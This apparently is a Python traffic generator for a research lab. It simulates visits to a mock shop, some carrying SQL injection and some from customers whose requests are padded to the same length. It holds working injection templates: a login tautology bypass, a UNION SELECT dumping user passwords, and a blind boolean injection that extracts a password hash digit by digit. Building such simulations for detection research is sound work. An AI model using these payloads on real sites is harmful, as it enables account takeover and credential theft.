"""Visits with a middle: an injection, or what a customer does in its place.

Around the middle are ordinary pages. A customer logs in, searches or looks products up where an attacker does the
same with an injection in it, so what tells them apart is the length of a few requests; and some customers send requests
that are as long.
"""

from __future__ import annotations

import re
from random import Random
from typing import NamedTuple
from urllib.parse import quote, urlencode

from probing.lab.clients.shop import ACCOUNT, FOUND, LOGIN, Step, Visit
from probing.lab.clients.shop_pages import (
    FILLER,
    ROWS,
    customer,
    first_pages,
    last_pages,
    logins,
    mixed,
    product,
    search,
)
from probing.lab.clients.typos import mistype, mistyped_words
from probing.lab.services.sql_pages import PRODUCTS, customers, password_hash, password_of
from probing.lab.session import Session

ATTACKS = ("visit-tautology", "visit-union", "visit-blind")
QUESTIONS = (3, 8)  # numbers of questions in a blind injection; the first two show whether it works
UNKNOWN = 0.4  # share of products that do not exist among those looked up by their numbers
HASH, HEX = re.compile(rb"[0-9a-f]{64}"), "0123456789abcdef"
PRODUCT_ROW = 85  # bytes of a search's result, on average
USER_ROWS = {"id, name, password": 135, "name, email, password": 154}  # columns, and bytes of a result
MISTYPED, FORGOTTEN = 0.15, 0.15  # shares of logins with a mistake before, and of those given up after it


def tautology(rng: Random) -> Step:
    """A login with a condition in place of the password."""
    name, number = customer(rng)[0], rng.randrange(1000)
    words = rng.choice((f"{name}' -- ", f"{name}' #", f"{name}' AND {number}={number} -- ",
                        f"{name}' OR name='{name}' -- "))  # fmt: skip
    return _injection(LOGIN, {"name": words, "password": "x" * rng.randint(1, 16)})


def union(rng: Random) -> Step:
    """A search that lists customers, as many as fill the answer of an ordinary search."""
    columns = rng.choice(tuple(USER_ROWS))
    limit = max(ROWS[0], round(rng.randint(*ROWS) * PRODUCT_ROW / USER_ROWS[columns]))
    words = f"{rng.getrandbits(16):04x}' UNION SELECT {columns} FROM users LIMIT {limit} -- "
    return _injection(f"/search.php?q={quote(words)}")


def _injection(path: str, form: dict[str, str] | None = None) -> Step:
    return Step(path, form, phase="injection", then="transfer")


class Blind:
    """Questions, each answered by whether a product is shown, that reveal the hash of a customer's password."""

    def __init__(self, rng: Random) -> None:
        self.name = rng.choice(customers())
        self.product, self.number = rng.randrange(1, PRODUCTS + 1), rng.randrange(1000)
        self.secret = password_hash(password_of(self.name))
        self.asked, self.right = 0, True  # right: every answer so far is the database's
        self._told, self._low, self._high = "", 0, len(HEX) - 1

    def question(self) -> Step:
        """The next question."""
        condition = {
            0: f"{self.number}={self.number}",
            1: f"{self.number}={self.number + 1}",
        }.get(self.asked, f"(SELECT password FROM users WHERE name='{self.name}')>='{self._bound}'")
        return _injection("/product.php?id=" + quote(f"{self.product}' AND {condition} -- "))

    def hear(self, shown: bool) -> None:
        """Take the answer of the question."""
        self.right &= shown == self.truth
        if self.asked > 1:
            middle = (self._low + self._high) // 2
            self._low, self._high = (middle + 1, self._high) if shown else (self._low, middle)
            if self._low == self._high:
                self._told, self._low, self._high = self._told + HEX[self._low], 0, len(HEX) - 1
        self.asked += 1

    @property
    def truth(self) -> bool:
        """The answer of the question, where words become statements."""
        return self.asked == 0 if self.asked < 2 else self.secret >= self._bound

    @property
    def _bound(self) -> str:
        return self._told + HEX[(self._low + self._high) // 2 + 1]


class Outing:
    """An attacker's visit."""

    def __init__(self, session: Session, way: str) -> None:
        """way: the way in which the last connection ends."""
        self.session, self.way, self.visit = session, way, Visit(session)
        self.blind = Blind(session.rng)

    def go(self) -> bool:
        """Make the visit; returns whether the injection succeeded."""
        before = first_pages(self.session, login_follows=self.session.activity == "visit-tautology")
        middle = self._middle()
        after, succeeded = last_pages(self.session), False
        for step in before:
            self.visit.ask(step)
        spread = self.session.activity == "visit-blind"
        for each in mixed(self.session.rng, middle, after[:-1]) if spread else [*middle, *after[:-1]]:
            succeeded |= self._ask(each)
        self.visit.ask(after[-1], self.way)
        self.visit.leave(self.way)
        return succeeded or (self.blind.right and self.blind.asked > 2)

    def _middle(self) -> list[Step | None]:
        """The injection with the pages that belong to it; None: the next question of a blind one."""
        rng = self.session.rng
        if self.session.activity == "visit-tautology":
            return [Step(LOGIN), tautology(rng)]
        if self.session.activity == "visit-union":
            return [union(rng)]
        return [None] * rng.randint(*QUESTIONS)

    def _ask(self, step: Step | None) -> bool:
        """Ask for a page; whether it shows what only an injection of this visit can show."""
        if step is None:
            if not (
                self.blind.asked == 2 and not self.blind.right
            ):  # else the first two have the same answer
                page = self.visit.ask(self.blind.question())
                self.blind.hear(b"No such product" not in page.text)
            return False
        page = self.visit.ask(step)
        if step.phase != "injection":
            return False
        if page.status == FOUND:  # a browser follows the redirection
            return b"Welcome, " in self.visit.ask(Step(ACCOUNT, at_once=True)).text
        return HASH.search(page.text) is not None


class Middle(NamedTuple):
    """The middle of a customer's visit. spread: its pages lie between those after it, not before them."""

    steps: list[Step]
    spread: bool


def harmless(session: Session) -> list[Step]:
    """The pages of a customer's visit."""
    rng = session.rng
    kind, mirrored = (
        rng.choice((_log_in, _find, _look_up)),
        rng.random() < session.parameters.mirrored_pct / 100,
    )
    before = first_pages(session, login_follows=kind is _log_in)
    middle, after = kind(rng, mirrored), last_pages(session)
    steps = mixed(rng, middle.steps, after[:-1]) if middle.spread else [*middle.steps, *after[:-1]]
    return [*before, *steps, after[-1]]


def mistyped(session: Session) -> list[Step]:
    """The pages of a customer who mistypes the password once or twice."""
    before, (name, password) = first_pages(session, login_follows=True), customer(session.rng)
    middle = logins(name, mistyped_words(session.rng, password))
    return [*before, *middle, *last_pages(session)]


def _log_in(rng: Random, mirrored: bool) -> Middle:
    name, password = customer(rng)
    words, luck = [password], rng.random()
    if luck < MISTYPED + FORGOTTEN:
        words = [mistype(rng, password), *(words if luck < MISTYPED else [])]
    form, *filled, own = logins(name, words)
    if mirrored:
        filled = [as_long(step, tautology(rng)) for step in filled]
    return Middle([form, *filled, *([own] if words[-1] == password else [])], False)


def _find(rng: Random, mirrored: bool) -> Middle:
    step = search(rng)
    return Middle([as_long(step, union(rng)) if mirrored else step], False)


def _look_up(rng: Random, mirrored: bool) -> Middle:
    steps, blind = [product(rng, UNKNOWN) for _ in range(rng.randint(*QUESTIONS))], Blind(rng)
    if mirrored:
        for k, step in enumerate(steps):
            steps[k] = as_long(step, blind.question())
            blind.hear(blind.truth)
    return Middle(steps, True)


def as_long(step: Step, injection: Step) -> Step:
    """A harmless request made as long as an injection, by words that the shop ignores."""
    if step.form is None:
        wanted = len(injection.path) - len(step.path)
        return step._replace(path=step.path + ("&" + FILLER * 4)[: max(0, wanted)], mirrored=True)
    wanted = len(urlencode(injection.form or {})) - len(urlencode(step.form)) - len("&next=")
    more = {"next": FILLER.translate({ord(c): "-" for c in "=&"})[:wanted]} if wanted >= 0 else {}
    return step._replace(form={**step.form, **more}, mirrored=True)
